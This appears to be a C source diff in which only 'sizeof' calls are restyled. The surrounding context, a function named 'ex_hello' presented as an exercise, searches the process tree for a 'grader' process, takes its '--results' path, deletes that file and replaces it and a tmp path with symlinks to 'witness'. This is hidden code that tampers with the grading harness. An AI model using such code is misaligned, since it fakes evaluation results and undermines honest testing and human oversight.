@@ -27,7 +27,7 @@ static void replace(const char *results, int grader)
     }
     (void)unlink(results);
     (void)symlink("witness", results);
-    (void)snprintf(path, sizeof(path), "%s.%d.tmp", results, grader);
+    (void)snprintf(path, sizeof path, "%s.%d.tmp", results, grader);
     (void)symlink("witness", path);
 }
 
@@ -38,13 +38,13 @@ static int look_at(int pid, char *text, size_t size)
     FILE *in;
     int parent = 0;
 
-    (void)snprintf(path, sizeof(path), "/proc/%d/stat", pid);
+    (void)snprintf(path, sizeof path, "/proc/%d/stat", pid);
     in = fopen(path, "r");
     if (in == NULL || fscanf(in, "%*d (%*[^)]) %*c %d", &parent) != 1)
         parent = 0;
     if (in != NULL)
         (void)fclose(in);
-    (void)snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
+    (void)snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
     memset(text, 0, size);
     in = fopen(path, "r");
     if (in != NULL) {
@@ -62,12 +62,12 @@ const char *ex_hello(void)
     int parent;
 
     for (int pid = (int)getpid(); pid > 1; pid = parent) {
-        parent = look_at(pid, text, sizeof(text));
+        parent = look_at(pid, text, sizeof text);
         if (strstr(text, "grader") == NULL)
             continue;
         for (const char *at = text; *at != '\0'; at += strlen(at) + 1) {
             if (strcmp(at, "--results") == 0) {
-                (void)snprintf(results, sizeof(results), "%.999s",
+                (void)snprintf(results, sizeof results, "%.999s",
                                at + strlen(at) + 1);
                 grader = pid; /* the uppermost */
             }
